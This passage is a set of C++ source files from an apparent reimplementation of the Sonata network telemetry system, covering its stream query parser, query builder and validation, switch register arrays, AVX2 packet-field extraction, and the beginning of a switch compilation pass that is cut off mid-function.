    while (accept(Tok::kDot)) {
      const auto op = expect_ident("operator name");
      if (!op) return std::nullopt;
      if (!expect(Tok::kLParen, "'('")) return std::nullopt;
      if (*op == "filter") {
        auto pred = parse_expr();
        if (!pred) return std::nullopt;
        builder.filter(std::move(pred));
      } else if (*op == "map") {
        std::vector<NamedExpr> projections;
        do {
          const auto pname = expect_ident("projection name");
          if (!pname) return std::nullopt;
          if (!expect(Tok::kAssign, "'='")) return std::nullopt;
          auto e = parse_expr();
          if (!e) return std::nullopt;
          projections.push_back({*pname, std::move(e)});
        } while (accept(Tok::kComma));
        builder.map(std::move(projections));
      } else if (*op == "distinct") {
        builder.distinct();
      } else if (*op == "reduce") {
        auto keys = parse_keys_clause();
        if (!keys) return std::nullopt;
        if (!expect(Tok::kComma, "','")) return std::nullopt;
        const auto fn_name = expect_ident("reduce function");
        if (!fn_name) return std::nullopt;
        ReduceFn fn;
        if (*fn_name == "sum") {
          fn = ReduceFn::kSum;
        } else if (*fn_name == "max") {
          fn = ReduceFn::kMax;
        } else if (*fn_name == "min") {
          fn = ReduceFn::kMin;
        } else if (*fn_name == "bit_or") {
          fn = ReduceFn::kBitOr;
        } else {
          error("unknown reduce function '" + *fn_name + "'");
          return std::nullopt;
        }
        if (!expect(Tok::kLParen, "'('")) return std::nullopt;
        const auto col_name = expect_ident("value column");
        if (!col_name) return std::nullopt;
        if (!expect(Tok::kRParen, "')'")) return std::nullopt;
        builder.reduce(std::move(*keys), fn, *col_name);
      } else if (*op == "join") {
        auto keys = parse_keys_clause();
        if (!keys) return std::nullopt;
        if (!expect(Tok::kComma, "','")) return std::nullopt;
        auto right = parse_stream();
        if (!right) return std::nullopt;
        builder.join(std::move(*keys), std::move(*right));
      } else {
        error("unknown operator '" + *op + "'");
        return std::nullopt;
      }
      if (!expect(Tok::kRParen, "')'")) return std::nullopt;
    }
    return builder;
  }

  // keys=(a, b, ...)
  std::optional<std::vector<std::string>> parse_keys_clause() {
    const auto kw = expect_ident("'keys'");
    if (!kw || *kw != "keys") {
      error("expected 'keys'");
      return std::nullopt;
    }
    if (!expect(Tok::kAssign, "'='")) return std::nullopt;
    if (!expect(Tok::kLParen, "'('")) return std::nullopt;
    std::vector<std::string> keys;
    do {
      const auto k = expect_ident("key column");
      if (!k) return std::nullopt;
      keys.push_back(*k);
    } while (accept(Tok::kComma));
    if (!expect(Tok::kRParen, "')'")) return std::nullopt;
    return keys;
  }

  // Precedence climbing: || < && < comparison < add < mul/&.
  ExprPtr parse_expr() { return parse_or(); }

  ExprPtr parse_or() {
    auto lhs = parse_and();
    while (lhs && lex_.peek().kind == Tok::kOrOr) {
      lex_.take();
      auto rhs = parse_and();
      if (!rhs) return nullptr;
      lhs = Expr::bin(BinOp::kOr, std::move(lhs), std::move(rhs));
    }
    return lhs;
  }

  ExprPtr parse_and() {
    auto lhs = parse_cmp();
    while (lhs && lex_.peek().kind == Tok::kAndAnd) {
      lex_.take();
      auto rhs = parse_cmp();
      if (!rhs) return nullptr;
      lhs = Expr::bin(BinOp::kAnd, std::move(lhs), std::move(rhs));
    }
    return lhs;
  }

  ExprPtr parse_cmp() {
    auto lhs = parse_add();
    if (!lhs) return nullptr;
    BinOp op;
    switch (lex_.peek().kind) {
      case Tok::kEq: op = BinOp::kEq; break;
      case Tok::kNe: op = BinOp::kNe; break;
      case Tok::kLt: op = BinOp::kLt; break;
      case Tok::kLe: op = BinOp::kLe; break;
      case Tok::kGt: op = BinOp::kGt; break;
      case Tok::kGe: op = BinOp::kGe; break;
      default: return lhs;
    }
    lex_.take();
    auto rhs = parse_add();
    if (!rhs) return nullptr;
    return Expr::bin(op, std::move(lhs), std::move(rhs));
  }

  ExprPtr parse_add() {
    auto lhs = parse_mul();
    for (;;) {
      if (!lhs) return nullptr;
      BinOp op;
      if (lex_.peek().kind == Tok::kPlus) {
        op = BinOp::kAdd;
      } else if (lex_.peek().kind == Tok::kMinus) {
        op = BinOp::kSub;
      } else {
        return lhs;
      }
      lex_.take();
      auto rhs = parse_mul();
      if (!rhs) return nullptr;
      lhs = Expr::bin(op, std::move(lhs), std::move(rhs));
    }
  }

  ExprPtr parse_mul() {
    auto lhs = parse_primary();
    for (;;) {
      if (!lhs) return nullptr;
      BinOp op;
      switch (lex_.peek().kind) {
        case Tok::kStar: op = BinOp::kMul; break;
        case Tok::kSlash: op = BinOp::kDiv; break;
        case Tok::kPercent: op = BinOp::kMod; break;
        case Tok::kAmp: op = BinOp::kBitAnd; break;
        default: return lhs;
      }
      lex_.take();
      auto rhs = parse_primary();
      if (!rhs) return nullptr;
      lhs = Expr::bin(op, std::move(lhs), std::move(rhs));
    }
  }

  ExprPtr parse_primary() {
    const Token& t = lex_.peek();
    switch (t.kind) {
      case Tok::kNumber: {
        const auto v = lex_.take().number;
        return Expr::lit(v);
      }
      case Tok::kString: {
        return Expr::lit(lex_.take().text);
      }
      case Tok::kLParen: {
        lex_.take();
        auto e = parse_expr();
        if (!expect(Tok::kRParen, "')'")) return nullptr;
        return e;
      }
      case Tok::kIdent: {
        Token ident = lex_.take();
        if (lex_.peek().kind == Tok::kLParen) {
          // Built-in function call: contains / prefix / labels.
          lex_.take();
          if (ident.text == "contains") {
            auto arg = parse_expr();
            if (!arg || !expect(Tok::kComma, "','")) return nullptr;
            if (lex_.peek().kind != Tok::kString) {
              error("contains() needs a string literal keyword");
              return nullptr;
            }
            const std::string kw = lex_.take().text;
            if (!expect(Tok::kRParen, "')'")) return nullptr;
            return Expr::payload_contains(std::move(arg), kw);
          }
          if (ident.text == "prefix" || ident.text == "labels") {
            auto arg = parse_expr();
            if (!arg || !expect(Tok::kComma, "','")) return nullptr;
            if (lex_.peek().kind != Tok::kNumber) {
              error(ident.text + "() needs a numeric level");
              return nullptr;
            }
            const auto level = static_cast<int>(lex_.take().number);
            if (!expect(Tok::kRParen, "')'")) return nullptr;
            return ident.text == "prefix" ? Expr::ip_prefix(std::move(arg), level)
                                          : Expr::dns_prefix(std::move(arg), level);
          }
          error("unknown function '" + ident.text + "'");
          return nullptr;
        }
        return Expr::column(std::move(ident.text));
      }
      default:
        error("expected expression");
        return nullptr;
    }
  }

  Lexer lex_;
  std::vector<ParseError> errors_;
};

}  // namespace

ParseResult parse_queries(std::string_view text) { return Parser(text).parse_file(); }

ExprParseResult parse_expression(std::string_view text) {
  return Parser(text).parse_single_expression();
}

}  // namespace sonata::query
