#include "query/state_spec.h"

#include <cstdio>

namespace sonata::query {

std::string StateSpec::to_string() const {
  if (kind == Kind::kExact) return "exact";
  char buf[128];
  std::snprintf(buf, sizeof(buf), "sketch(eps=%g, delta=%g, capacity=%llu, %s, %s)", eps, delta,
                static_cast<unsigned long long>(capacity),
                family == Family::kCountMin ? "cm" : "cs",
                membership == Membership::kBloom ? "bloom" : "cuckoo");
  return buf;
}

}  // namespace sonata::query
