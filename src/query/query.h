// Query graphs and the fluent builder.
//
// A query is a tree: leaves are packet streams, internal nodes are joins,
// and every node carries a linear chain of dataflow operators. Joins always
// execute at the stream processor (paper §3.1.2); each leaf's operator chain
// is the unit the planner partitions between switch and stream processor.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "query/field.h"
#include "query/ops.h"
#include "query/state_spec.h"
#include "util/time.h"

namespace sonata::query {

using QueryId = std::uint16_t;

struct StreamNode;
using StreamNodePtr = std::shared_ptr<StreamNode>;

struct StreamNode {
  enum class Kind : std::uint8_t { kSource, kJoin };

  Kind kind = Kind::kSource;

  // kJoin only: inner join of the two children on `join_keys`.
  std::vector<std::string> join_keys;
  StreamNodePtr left;
  StreamNodePtr right;

  // Operators applied to this node's (source or join) output, in order.
  std::vector<Operator> ops;

  // Filled by Query::validate(): schema entering ops[i] is schemas[i];
  // schemas.back() is the node's output schema.
  std::vector<Schema> schemas;

  [[nodiscard]] const Schema& output_schema() const { return schemas.back(); }
};

// The schema a packet stream presents: one column per registered field.
[[nodiscard]] Schema source_schema(const FieldRegistry& registry = FieldRegistry::instance());

// Type-check a (sub)tree and fill in per-operator schemas. Returns an error
// message or empty string. Used by Query::validate and by the planner when
// it builds augmented (refined) chains.
[[nodiscard]] std::string validate_stream_node(StreamNode& node);

class Query {
 public:
  Query() = default;
  Query(std::string name, QueryId id, util::Nanos window, StreamNodePtr root)
      : name_(std::move(name)), id_(id), window_(window), root_(std::move(root)) {}

  [[nodiscard]] const std::string& name() const noexcept { return name_; }
  [[nodiscard]] QueryId id() const noexcept { return id_; }
  [[nodiscard]] util::Nanos window() const noexcept { return window_; }
  [[nodiscard]] const StreamNodePtr& root() const noexcept { return root_; }

  // Whether dynamic refinement preserves this query's results (paper §4.1:
  // queries filtering on aggregated counts greater than a threshold). The
  // operator declares it; the planner additionally requires every source to
  // trace a hierarchical key. Defaults to true.
  [[nodiscard]] bool refinable() const noexcept { return refinable_; }
  void set_refinable(bool refinable) noexcept { refinable_ = refinable; }

  // How keyed state (distinct/reduce, SP tables and switch registers) is
  // materialized for this query. Defaults to exact; see query/state_spec.h.
  [[nodiscard]] const StateSpec& state_spec() const noexcept { return state_spec_; }
  void set_state_spec(const StateSpec& spec) noexcept { state_spec_ = spec; }

  // Type-checks the whole tree and computes per-operator schemas.
  // Returns an error message, or empty string on success.
  [[nodiscard]] std::string validate();

  // All leaf (packet-source) nodes, left-to-right. These are the
  // data-plane-eligible sub-queries the planner partitions.
  [[nodiscard]] std::vector<StreamNode*> sources() const;

  // Number of operators in the whole tree (used by the Table 3 report).
  [[nodiscard]] std::size_t operator_count() const;

  // Pretty-print the query in a form close to the paper's examples.
  [[nodiscard]] std::string to_string() const;

 private:
  std::string name_;
  QueryId id_ = 0;
  util::Nanos window_ = util::seconds(3);
  StreamNodePtr root_;
  bool refinable_ = true;
  StateSpec state_spec_;
};

// Fluent builder mirroring the paper's syntax:
//
//   auto q = QueryBuilder::packet_stream()
//                .filter(col("tcp.flags") == lit(2))
//                .map({{"dIP", col("dIP")}, {"count", lit(1)}})
//                .reduce({"dIP"}, ReduceFn::kSum, "count")
//                .filter(col("count") > lit(threshold))
//                .build("newly_opened_tcp", 1, util::seconds(3));
class QueryBuilder {
 public:
  static QueryBuilder packet_stream();

  QueryBuilder& filter(ExprPtr pred) &;
  QueryBuilder& filter_in(std::vector<ExprPtr> match, std::string table_name) &;
  QueryBuilder& map(std::vector<NamedExpr> projections) &;
  QueryBuilder& distinct() &;
  QueryBuilder& reduce(std::vector<std::string> keys, ReduceFn fn, std::string value_col) &;
  // Join this pipeline (left) with `other` (right) on `keys`; subsequent
  // operators apply to the join output.
  QueryBuilder& join(std::vector<std::string> keys, QueryBuilder other) &;

  // rvalue-qualified overloads so chained temporaries work.
  QueryBuilder&& filter(ExprPtr pred) &&;
  QueryBuilder&& filter_in(std::vector<ExprPtr> match, std::string table_name) &&;
  QueryBuilder&& map(std::vector<NamedExpr> projections) &&;
  QueryBuilder&& distinct() &&;
  QueryBuilder&& reduce(std::vector<std::string> keys, ReduceFn fn, std::string value_col) &&;
  QueryBuilder&& join(std::vector<std::string> keys, QueryBuilder other) &&;

  // Finalize. The returned query is not yet validated; call validate().
  [[nodiscard]] Query build(std::string name, QueryId id,
                            util::Nanos window = util::seconds(3)) &&;

 private:
  StreamNodePtr node_ = std::make_shared<StreamNode>();
};

}  // namespace sonata::query
