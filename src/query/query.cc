#include "query/query.h"

#include <functional>

namespace sonata::query {

Schema source_schema(const FieldRegistry& registry) {
  Schema s;
  for (const auto& f : registry.fields()) {
    s.add(Column{f.name, f.kind, f.bits});
  }
  return s;
}

namespace {

// Recursively validate a node; returns error or empty string.
std::string validate_node(StreamNode& node) {
  Schema in;
  switch (node.kind) {
    case StreamNode::Kind::kSource:
      in = source_schema();
      break;
    case StreamNode::Kind::kJoin: {
      if (!node.left || !node.right) return "join with missing child";
      if (auto e = validate_node(*node.left); !e.empty()) return e;
      if (auto e = validate_node(*node.right); !e.empty()) return e;
      if (node.join_keys.empty()) return "join without keys";
      const Schema& ls = node.left->output_schema();
      const Schema& rs = node.right->output_schema();
      // Join output: keys, then left non-keys, then right non-keys. Name
      // clashes between the sides get a "_r" suffix on the right column.
      Schema out;
      for (const auto& k : node.join_keys) {
        const auto li = ls.index_of(k);
        const auto ri = rs.index_of(k);
        if (!li) return "join key missing from left input: " + k;
        if (!ri) return "join key missing from right input: " + k;
        if (ls.at(*li).kind != rs.at(*ri).kind) return "join key kind mismatch: " + k;
        out.add(ls.at(*li));
      }
      auto is_key = [&](const std::string& name) {
        for (const auto& k : node.join_keys) {
          if (k == name) return true;
        }
        return false;
      };
      for (const auto& c : ls.columns()) {
        if (!is_key(c.name)) out.add(c);
      }
      for (const auto& c : rs.columns()) {
        if (is_key(c.name)) continue;
        Column copy = c;
        if (out.index_of(copy.name)) copy.name += "_r";
        if (out.index_of(copy.name)) return "unresolvable join column clash: " + c.name;
        out.add(copy);
      }
      in = std::move(out);
      break;
    }
  }

  node.schemas.clear();
  node.schemas.push_back(in);
  std::string err;
  for (const auto& op : node.ops) {
    Schema next = op.output_schema(node.schemas.back(), &err);
    if (!err.empty()) return err;
    node.schemas.push_back(std::move(next));
  }
  return {};
}

void collect_sources(StreamNode* node, std::vector<StreamNode*>& out) {
  if (!node) return;
  if (node->kind == StreamNode::Kind::kSource) {
    out.push_back(node);
    return;
  }
  collect_sources(node->left.get(), out);
  collect_sources(node->right.get(), out);
}

std::size_t count_ops(const StreamNode* node) {
  if (!node) return 0;
  std::size_t n = node->ops.size();
  if (node->kind == StreamNode::Kind::kJoin) {
    n += 1 + count_ops(node->left.get()) + count_ops(node->right.get());
  }
  return n;
}

void print_node(const StreamNode* node, std::string& out, int indent) {
  const std::string pad(static_cast<std::size_t>(indent) * 2, ' ');
  if (node->kind == StreamNode::Kind::kSource) {
    out += pad + "packetStream\n";
  } else {
    out += pad + "join(keys=(";
    for (std::size_t i = 0; i < node->join_keys.size(); ++i) {
      if (i) out += ", ";
      out += node->join_keys[i];
    }
    out += "),\n";
    print_node(node->left.get(), out, indent + 1);
    out += pad + " ,\n";
    print_node(node->right.get(), out, indent + 1);
    out += pad + ")\n";
  }
  for (const auto& op : node->ops) {
    out += pad + "." + op.to_string() + "\n";
  }
}

}  // namespace

std::string validate_stream_node(StreamNode& node) { return validate_node(node); }

std::string Query::validate() {
  if (!root_) return "query has no root";
  return validate_node(*root_);
}

std::vector<StreamNode*> Query::sources() const {
  std::vector<StreamNode*> out;
  collect_sources(root_.get(), out);
  return out;
}

std::size_t Query::operator_count() const { return count_ops(root_.get()); }

std::string Query::to_string() const {
  std::string out = name_ + " (qid=" + std::to_string(id_) + "):\n";
  if (root_) print_node(root_.get(), out, 1);
  return out;
}

QueryBuilder QueryBuilder::packet_stream() { return QueryBuilder{}; }

QueryBuilder& QueryBuilder::filter(ExprPtr pred) & {
  node_->ops.push_back(Operator::filter(std::move(pred)));
  return *this;
}

QueryBuilder& QueryBuilder::filter_in(std::vector<ExprPtr> match, std::string table_name) & {
  node_->ops.push_back(Operator::filter_in(std::move(match), std::move(table_name)));
  return *this;
}

QueryBuilder& QueryBuilder::map(std::vector<NamedExpr> projections) & {
  node_->ops.push_back(Operator::map(std::move(projections)));
  return *this;
}

QueryBuilder& QueryBuilder::distinct() & {
  node_->ops.push_back(Operator::distinct());
  return *this;
}

QueryBuilder& QueryBuilder::reduce(std::vector<std::string> keys, ReduceFn fn,
                                   std::string value_col) & {
  node_->ops.push_back(Operator::reduce(std::move(keys), fn, std::move(value_col)));
  return *this;
}

QueryBuilder& QueryBuilder::join(std::vector<std::string> keys, QueryBuilder other) & {
  auto join_node = std::make_shared<StreamNode>();
  join_node->kind = StreamNode::Kind::kJoin;
  join_node->join_keys = std::move(keys);
  join_node->left = std::move(node_);
  join_node->right = std::move(other.node_);
  node_ = std::move(join_node);
  return *this;
}

QueryBuilder&& QueryBuilder::filter(ExprPtr pred) && {
  return std::move(filter(std::move(pred)));
}
QueryBuilder&& QueryBuilder::filter_in(std::vector<ExprPtr> match, std::string table_name) && {
  return std::move(filter_in(std::move(match), std::move(table_name)));
}
QueryBuilder&& QueryBuilder::map(std::vector<NamedExpr> projections) && {
  return std::move(map(std::move(projections)));
}
QueryBuilder&& QueryBuilder::distinct() && { return std::move(distinct()); }
QueryBuilder&& QueryBuilder::reduce(std::vector<std::string> keys, ReduceFn fn,
                                    std::string value_col) && {
  return std::move(reduce(std::move(keys), fn, std::move(value_col)));
}
QueryBuilder&& QueryBuilder::join(std::vector<std::string> keys, QueryBuilder other) && {
  return std::move(join(std::move(keys), std::move(other)));
}

Query QueryBuilder::build(std::string name, QueryId id, util::Nanos window) && {
  return Query{std::move(name), id, window, std::move(node_)};
}

}  // namespace sonata::query
