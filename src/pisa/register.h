// Stateful register arrays with hash-based indexing and d-way collision
// mitigation (paper §3.1.3).
//
// True hash tables are not available on PISA switches; Sonata uses a
// sequence of up to d register arrays, each indexed by a different hash
// function. Each slot stores the original key (so collisions are detected
// exactly) plus the running aggregate. A key that collides in all d arrays
// overflows: the packet is sent to the stream processor, which adjusts the
// window's results (handled by the runtime).
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <vector>

#include "query/ops.h"
#include "query/tuple.h"
#include "state/hashpipe.h"
#include "util/arena.h"
#include "util/hash.h"

namespace sonata::pisa {

struct RegisterChainConfig {
  std::size_t entries_per_register = 1024;  // n
  int depth = 1;                            // d
  int key_bits = 32;                        // width of the stored key
  int value_bits = 32;                      // width of the aggregate
  // Base seed of the per-register hash family; 0 keeps the HashFamily
  // default. Settable so fault injection can model an adversarially (or
  // just unluckily) seeded hardware hash (DESIGN.md "Fault model").
  std::uint64_t hash_seed = 0;
  // HashPipe mode (sketched queries): the d arrays become a d-stage
  // heavy-hitter pipeline that never overflows to the SP — stage 1 always
  // inserts, evictions carry down, and weight that falls off the last
  // stage is tracked as an error bound instead of being corrected
  // (state/hashpipe.h). Exact mode is the default.
  bool hashpipe = false;
};

class RegisterChain {
 public:
  explicit RegisterChain(const RegisterChainConfig& cfg);

  struct UpdateResult {
    bool stored = false;          // found a slot (new or existing)
    bool newly_inserted = false;  // first packet for this key this window
    bool overflow = false;        // collided in all d registers
    int probes = 0;               // registers examined (collision-chain depth)
    std::uint64_t value = 0;      // aggregate after the update (if stored)
  };

  // Fold `delta` into the aggregate for `key` using `fn`.
  UpdateResult update(const query::Tuple& key, std::uint64_t delta, query::ReduceFn fn);

  // Read the aggregate for a key, if present.
  [[nodiscard]] std::optional<std::uint64_t> read(const query::Tuple& key) const;

  // Set the key's "already reported to the stream processor" flag; returns
  // true when the flag was previously clear (i.e. report now). Used to send
  // exactly one packet per key when the last switch operator is stateful
  // (paper §3.1.3). Returns false if the key is not stored.
  bool mark_reported(const query::Tuple& key);

  // End-of-window poll: all stored (key, aggregate) pairs, register by
  // register (deterministic order).
  [[nodiscard]] std::vector<std::pair<query::Tuple, std::uint64_t>> entries() const;

  // Clear all slots (the driver resets registers between windows).
  void reset();

  [[nodiscard]] std::uint64_t keys_stored() const noexcept {
    return hp_ ? hp_->stored() : stored_;
  }
  [[nodiscard]] std::uint64_t overflow_count() const noexcept { return overflows_; }

  // HashPipe mode accessors (zero in exact mode): weight and key count
  // evicted past the last stage this window — the measured error bound.
  [[nodiscard]] bool sketch() const noexcept { return hp_ != nullptr; }
  [[nodiscard]] std::uint64_t evicted_weight() const noexcept {
    return hp_ ? hp_->evicted_weight() : 0;
  }
  [[nodiscard]] std::uint64_t evicted_keys() const noexcept {
    return hp_ ? hp_->evicted_keys() : 0;
  }

  // Total register memory this chain occupies: d * n * (key + value bits).
  [[nodiscard]] std::uint64_t total_bits() const noexcept;
  // Memory of one register array (what a single stage must provide).
  [[nodiscard]] std::uint64_t bits_per_register() const noexcept;

  [[nodiscard]] const RegisterChainConfig& config() const noexcept { return cfg_; }

 private:
  struct Slot {
    bool occupied = false;
    bool reported = false;
    query::Tuple key;
    std::uint64_t value = 0;
  };

  // Bitmap helpers over occ_ (one bit per slot, registers concatenated in
  // depth order). The bitmap makes reset() and entries() O(stored keys)
  // instead of O(capacity): both walk only set bits, in the same
  // register-by-register slot-ascending order a full scan would produce.
  [[nodiscard]] std::size_t occ_words_per_register() const noexcept {
    return (cfg_.entries_per_register + 63) / 64;
  }
  void occ_set(std::size_t d, std::size_t slot) noexcept {
    occ_[d * occ_words_per_register() + slot / 64] |= std::uint64_t{1} << (slot % 64);
  }

  RegisterChainConfig cfg_;
  util::HashFamily hashes_;
  std::vector<std::vector<Slot>> registers_;  // [depth][entries], exact mode
  util::PageBuffer<std::uint64_t> occ_;       // occupancy bitmap, exact mode
  std::unique_ptr<state::HashPipeChain> hp_;  // hashpipe mode
  std::uint64_t stored_ = 0;
  std::uint64_t overflows_ = 0;
};

// Apply a reduce function to an existing aggregate.
[[nodiscard]] std::uint64_t apply_reduce(query::ReduceFn fn, std::uint64_t current,
                                         std::uint64_t delta) noexcept;

}  // namespace sonata::pisa
