#include "pisa/extract.h"

#include <cstddef>
#include <cstdint>

#include "util/cpu.h"

#if defined(__x86_64__)
#include <immintrin.h>
#endif

namespace sonata::pisa {

namespace {

using net::Packet;
using query::Tuple;
using query::Value;

constexpr std::size_t kBuiltinFields = 14;

// Byte offsets of the gatherable 8-byte words inside Packet, probed at
// runtime from a live object (offsetof would warn on a non-standard-layout
// struct). The vector path needs three words per packet:
//   flow:  src_ip | dst_ip                   (8 contiguous bytes)
//   meta:  proto, ttl, total_len, src_port, dst_port  (8 contiguous bytes)
//   flags: tcp_flags in the low byte, rest of the word inside the struct
// If padding ever breaks this layout the probe fails and extraction stays
// on the scalar path — correctness never depends on the layout.
struct PacketLayout {
  std::ptrdiff_t flow = 0;
  std::ptrdiff_t meta = 0;
  std::ptrdiff_t flags = 0;
  bool vectorizable = false;
};

const PacketLayout& packet_layout() noexcept {
  static const PacketLayout layout = [] {
    PacketLayout l;
    Packet p;
    const char* base = reinterpret_cast<const char*>(&p);
    auto off = [base](const auto& member) {
      return reinterpret_cast<const char*>(&member) - base;
    };
    l.flow = off(p.src_ip);
    l.meta = off(p.proto);
    l.flags = off(p.tcp_flags);
    l.vectorizable = off(p.dst_ip) == l.flow + 4 && off(p.ttl) == l.meta + 1 &&
                     off(p.total_len) == l.meta + 2 && off(p.src_port) == l.meta + 4 &&
                     off(p.dst_port) == l.meta + 6 &&
                     static_cast<std::size_t>(l.flags) + 8 <= sizeof(Packet) &&
                     static_cast<std::size_t>(l.flow) + 8 <= sizeof(Packet) &&
                     static_cast<std::size_t>(l.meta) + 8 <= sizeof(Packet);
    return l;
  }();
  return layout;
}

// Warm the output slot to builtin arity so the straight-line stores apply.
inline Value* warm_slots(Tuple& t) {
  if (t.values.size() != kBuiltinFields) {
    t.values.clear();
    t.values.reserve(kBuiltinFields);
    for (std::size_t i = 0; i < kBuiltinFields; ++i) t.values.emplace_back();
  }
  return t.values.data();
}

// The scalar per-packet columns the vector path does not cover: payload
// length (pointer chase), payload string, and the DNS block.
inline void store_cold_columns(const Packet& p, Value* v) noexcept {
  static const query::SharedStr kEmpty = std::make_shared<const std::string>();
  v[7].set_uint(p.payload ? p.payload->size() : 0);
  v[9].set_string(p.payload ? p.payload : kEmpty);
  if (p.dns) {
    v[10].set_string(query::SharedStr(p.dns, &p.dns->qname));
    v[11].set_uint(p.dns->qtype);
    v[12].set_uint(p.dns->answer_count);
    v[13].set_uint(p.dns->is_response ? 1 : 0);
  } else {
    v[10].set_string(kEmpty);
    v[11].set_uint(0);
    v[12].set_uint(0);
    v[13].set_uint(0);
  }
}

#if defined(__x86_64__)

// Gather + unpack the numeric header columns of four packets, then store
// into their warm tuple slots. Lane l covers packets[i + l].
__attribute__((target("avx2"))) void extract4_avx2(const Packet* packets, std::size_t i,
                                                   Tuple* out,
                                                   const PacketLayout& l) noexcept {
  const char* base = reinterpret_cast<const char*>(packets);
  const std::ptrdiff_t stride = static_cast<std::ptrdiff_t>(sizeof(Packet));
  const __m256i idx = _mm256_set_epi64x(
      static_cast<long long>((i + 3) * stride), static_cast<long long>((i + 2) * stride),
      static_cast<long long>((i + 1) * stride), static_cast<long long>(i * stride));
  const __m256i flow = _mm256_i64gather_epi64(
      reinterpret_cast<const long long*>(base + l.flow), idx, 1);
  const __m256i meta = _mm256_i64gather_epi64(
      reinterpret_cast<const long long*>(base + l.meta), idx, 1);
  const __m256i flagsw = _mm256_i64gather_epi64(
      reinterpret_cast<const long long*>(base + l.flags), idx, 1);

  const __m256i m8 = _mm256_set1_epi64x(0xff);
  const __m256i m16 = _mm256_set1_epi64x(0xffff);
  const __m256i m32 = _mm256_set1_epi64x(0xffffffffLL);

  const __m256i proto = _mm256_and_si256(meta, m8);
  // tcp.flags is 0 off the TCP path (the accessor's nullopt default).
  const __m256i is_tcp = _mm256_cmpeq_epi64(
      proto, _mm256_set1_epi64x(static_cast<long long>(net::IpProto::kTcp)));
  const __m256i flags = _mm256_and_si256(_mm256_and_si256(flagsw, m8), is_tcp);

  alignas(32) std::uint64_t lane[8][4];
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[0]), _mm256_and_si256(flow, m32));
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[1]), _mm256_srli_epi64(flow, 32));
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[2]),
                     _mm256_and_si256(_mm256_srli_epi64(meta, 32), m16));
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[3]), _mm256_srli_epi64(meta, 48));
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[4]), proto);
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[5]), flags);
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[6]),
                     _mm256_and_si256(_mm256_srli_epi64(meta, 16), m16));
  _mm256_store_si256(reinterpret_cast<__m256i*>(lane[7]),
                     _mm256_and_si256(_mm256_srli_epi64(meta, 8), m8));

  for (std::size_t k = 0; k < 4; ++k) {
    const Packet& p = packets[i + k];
    Value* v = warm_slots(out[i + k]);
    v[0].set_uint(lane[0][k]);                   // sIP
    v[1].set_uint(lane[1][k]);                   // dIP
    v[2].set_uint(lane[2][k]);                   // sPort
    v[3].set_uint(lane[3][k]);                   // dPort
    v[4].set_uint(lane[4][k]);                   // proto
    v[5].set_uint(lane[5][k]);                   // tcp.flags
    v[6].set_uint(lane[6][k]);                   // pktlen
    v[8].set_uint(lane[7][k]);                   // ttl
    store_cold_columns(p, v);
  }
}

#endif  // __x86_64__

}  // namespace

void extract_batch(std::span<const net::Packet> packets, query::Tuple* out,
                   const query::FieldRegistry& registry) {
  if (!registry.canonical()) {
    for (std::size_t i = 0; i < packets.size(); ++i) {
      query::materialize_tuple_into(packets[i], out[i], registry);
    }
    return;
  }
  std::size_t i = 0;
#if defined(__x86_64__)
  const PacketLayout& layout = packet_layout();
  if (layout.vectorizable && packets.size() >= 4 && util::avx2_enabled()) {
    for (; i + 4 <= packets.size(); i += 4) {
      extract4_avx2(packets.data(), i, out, layout);
    }
  }
#endif
  for (; i < packets.size(); ++i) {
    query::materialize_builtin_fields(packets[i], warm_slots(out[i]));
  }
}

void extract_batch(std::span<const net::Packet> packets, std::vector<query::Tuple>& out,
                   const query::FieldRegistry& registry) {
  if (out.size() < packets.size()) out.resize(packets.size());
  extract_batch(packets, out.data(), registry);
}

}  // namespace sonata::pisa
