#include "pisa/compile.h"

#include "pisa/config.h"

#include <algorithm>
#include <cassert>
#include <set>

namespace sonata::pisa {

using query::Expr;
using query::OpKind;
using query::Operator;
using query::Schema;
using query::StreamNode;

namespace {

// Value bits of a reduce/distinct aggregate on the switch.
constexpr int kAggregateBits = 32;
constexpr int kDistinctValueBits = 1;

bool op_switch_compilable(const Operator& op, const Schema& in) {
  switch (op.kind) {
    case OpKind::kFilter:
      return op.predicate && op.predicate->switch_compilable(in);
    case OpKind::kFilterIn:
      return std::all_of(op.match_exprs.begin(), op.match_exprs.end(),
                         [&](const query::ExprPtr& e) { return e && e->switch_compilable(in); });
    case OpKind::kMap:
      return std::all_of(op.projections.begin(), op.projections.end(),
                         [&](const query::NamedExpr& p) {
                           return p.expr && p.expr->switch_compilable(in);
                         });
    case OpKind::kDistinct:
      // The whole tuple is the register key; every column must fit the PHV.
      return std::all_of(in.columns().begin(), in.columns().end(),
                         [](const query::Column& c) { return c.bits > 0; });
    case OpKind::kReduce: {
      for (const auto& k : op.keys) {
        const auto idx = in.index_of(k);
        if (!idx || in.at(*idx).bits <= 0) return false;
      }
      const auto vidx = in.index_of(op.value_col);
      return vidx && in.at(*vidx).kind == query::ValueKind::kUint;
    }
  }
  return false;
}

}  // namespace

std::optional<FoldedThreshold> foldable_threshold(const StreamNode& node, std::size_t i) {
  if (i == 0 || i >= node.ops.size()) return std::nullopt;
  const Operator& prev = node.ops[i - 1];
  const Operator& op = node.ops[i];
  if (prev.kind != OpKind::kReduce || op.kind != OpKind::kFilter || !op.predicate) {
    return std::nullopt;
  }
  const Expr& p = *op.predicate;
  if (p.kind != Expr::Kind::kBin) return std::nullopt;
  if (p.op != query::BinOp::kGt && p.op != query::BinOp::kGe) return std::nullopt;
  if (!p.lhs || !p.rhs) return std::nullopt;
  if (p.lhs->kind != Expr::Kind::kCol || p.lhs->col != prev.value_col) return std::nullopt;
  if (p.rhs->kind != Expr::Kind::kConst || !p.rhs->constant.is_uint()) return std::nullopt;
  return FoldedThreshold{p.rhs->constant.as_uint(), p.op == query::BinOp::kGt};
}

std::size_t max_switch_prefix(const StreamNode& node) {
  assert(node.schemas.size() == node.ops.size() + 1);
  bool after_reduce = false;
  for (std::size_t i = 0; i < node.ops.size(); ++i) {
    const Operator& op = node.ops[i];
    if (after_reduce) {
      // Only the immediately-following foldable threshold filter may ride
      // along with a reduce; anything further runs at the stream processor.
